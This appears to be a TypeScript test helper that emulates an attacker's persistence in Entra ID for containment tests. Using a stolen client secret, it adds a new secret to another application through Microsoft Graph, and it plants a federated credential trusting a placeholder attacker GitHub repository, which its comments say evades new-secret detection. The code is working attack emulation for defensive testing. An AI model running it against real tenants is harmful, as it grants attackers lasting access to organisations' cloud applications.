// The attacker's side of issue 16's Entra tests: Stratus Red Team's `entra-id.persistence.backdoor-application`
// (a new client secret on an existing application, added with a stolen app-only token) and a federated identity
// credential on an application (an outside workload — an attacker's GitHub repository — gets the app's tokens), with
// plain fetch as an attacker's script sends them; and the stolen credential used again, to show it dead after the
// cut-off. https://stratus-red-team.cloud/attack-techniques/entra-id/entra-id.persistence.backdoor-application/

/** Where the attacker sends requests: the simulator (or any Entra authority and Graph root). */
export interface EntraTarget {
  readonly authorityHost: string;
  readonly graphEndpoint: string;
  readonly tenantId: string;
}

/** A client id and secret the attacker holds. */
export interface StolenSecret {
  readonly appId: string;
  readonly secret: string;
}

/** The application the attacker backdoors, by its client id. */
export interface Victim {
  readonly appId: string;
}

export interface TokenAttempt {
  readonly status: number;
  readonly accessToken?: string;
  /** `AADSTS7000215` and the like, when Entra refused. */
  readonly code?: string;
}

export const GITHUB_ACTIONS_ISSUER = 'https://token.actions.githubusercontent.com';
const GRAPH_DEFAULT_SCOPE = 'https://graph.microsoft.com/.default';

/** The client-credentials flow with a stolen secret, as `curl` would send it. */
export async function requestToken(target: EntraTarget, stolen: StolenSecret): Promise<TokenAttempt> {
  const response = await fetch(`${target.authorityHost}/${target.tenantId}/oauth2/v2.0/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'client_credentials',
      client_id: stolen.appId,
      client_secret: stolen.secret,
      scope: GRAPH_DEFAULT_SCOPE,
    }).toString(),
  });
  const body = (await response.json()) as { access_token?: string; error_description?: string };
  if (response.ok && body.access_token) return { status: response.status, accessToken: body.access_token };
  const code = /AADSTS\d+/.exec(body.error_description ?? '')?.[0];
  return { status: response.status, ...(code ? { code } : {}) };
}

async function tokenOrThrow(target: EntraTarget, stolen: StolenSecret): Promise<string> {
  const attempt = await requestToken(target, stolen);
  if (!attempt.accessToken)
    throw new Error(`the stolen secret of ${stolen.appId} got no token (${attempt.code ?? attempt.status})`);
  return attempt.accessToken;
}

async function graphCall<T>(target: EntraTarget, token: string, method: string, path: string, body?: unknown) {
  const response = await fetch(`${target.graphEndpoint}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  if (!response.ok) throw new Error(`Graph ${method} ${path} answered ${response.status}: ${text.slice(0, 300)}`);
  return (text === '' ? {} : JSON.parse(text)) as T;
}

/** The application object of a client id: its object id is what addPassword and federatedIdentityCredentials take. */
async function applicationOf(
  target: EntraTarget,
  token: string,
  victim: Victim,
): Promise<{ id: string; appId: string }> {
  return graphCall<{ id: string; appId: string }>(
    target,
    token,
    'GET',
    `/applications(appId='${victim.appId}')?$select=id,appId,displayName`,
  );
}

export interface Backdoor {
  readonly applicationId: string;
  readonly appId: string;
  readonly keyId: string;
  /** The new client secret: the attacker's way back in, whatever happens to the stolen one. */
  readonly secret: string;
  readonly displayName: string;
}

/**
 * entra-id.persistence.backdoor-application: with the stolen app's token (it holds Application.ReadWrite.All), add a
 * password credential to another application; the secret Graph returns authenticates as that application.
 */
export async function backdoorApplication(
  target: EntraTarget,
  stolen: StolenSecret,
  victim: Victim,
  displayName = 'Stratus Red Team backdoor',
): Promise<Backdoor> {
  const token = await tokenOrThrow(target, stolen);
  const app = await applicationOf(target, token, victim);
  const credential = await graphCall<{ keyId: string; secretText: string }>(
    target,
    token,
    'POST',
    `/applications/${app.id}/addPassword`,
    { passwordCredential: { displayName } },
  );
  return {
    applicationId: app.id,
    appId: app.appId,
    keyId: credential.keyId,
    secret: credential.secretText,
    displayName,
  };
}

export interface FederatedBackdoor {
  readonly applicationId: string;
  readonly appId: string;
  readonly credentialId: string;
  readonly name: string;
  readonly issuer: string;
  readonly subject: string;
}

/**
 * A federated credential on an application: GitHub Actions tokens of the attacker's repository now exchange for the
 * application's. No secret is added, so a rule watching for new secrets sees nothing.
 */
export async function federatedCredentialBackdoor(
  target: EntraTarget,
  stolen: StolenSecret,
  victim: Victim,
  options: { name?: string; subject?: string } = {},
): Promise<FederatedBackdoor> {
  const token = await tokenOrThrow(target, stolen);
  const app = await applicationOf(target, token, victim);
  const name = options.name ?? 'stratus-red-team-federated';
  const subject = options.subject ?? 'repo:attacker/persistence:ref:refs/heads/main';
  const created = await graphCall<{ id: string; issuer: string; subject: string; name: string }>(
    target,
    token,
    'POST',
    `/applications/${app.id}/federatedIdentityCredentials`,
    { name, issuer: GITHUB_ACTIONS_ISSUER, subject, audiences: ['api://AzureADTokenExchange'] },
  );
  return {
    applicationId: app.id,
    appId: app.appId,
    credentialId: created.id,
    name: created.name,
    issuer: created.issuer,
    subject: created.subject,
  };
}

export interface CredentialUse {
  readonly token: TokenAttempt;
  /** The Graph call made with the token, when Entra issued one. */
  readonly graphStatus?: number;
}

/**
 * The stolen (or planted) secret used again: a token request, then a Graph call with the token when one is issued.
 * After containment the request is refused (AADSTS7000215 for a removed secret, 7000112 for a disabled app), and the
 * sign-in log shows the attempt.
 */
export async function useStolenCredential(
  target: EntraTarget,
  stolen: StolenSecret,
  path = `/servicePrincipals(appId='${stolen.appId}')?$select=id`,
): Promise<CredentialUse> {
  const token = await requestToken(target, stolen);
  if (!token.accessToken) return { token };
  const response = await fetch(`${target.graphEndpoint}${path}`, {
    headers: { authorization: `Bearer ${token.accessToken}` },
  });
  await response.body?.cancel();
  return { token, graphStatus: response.status };
}
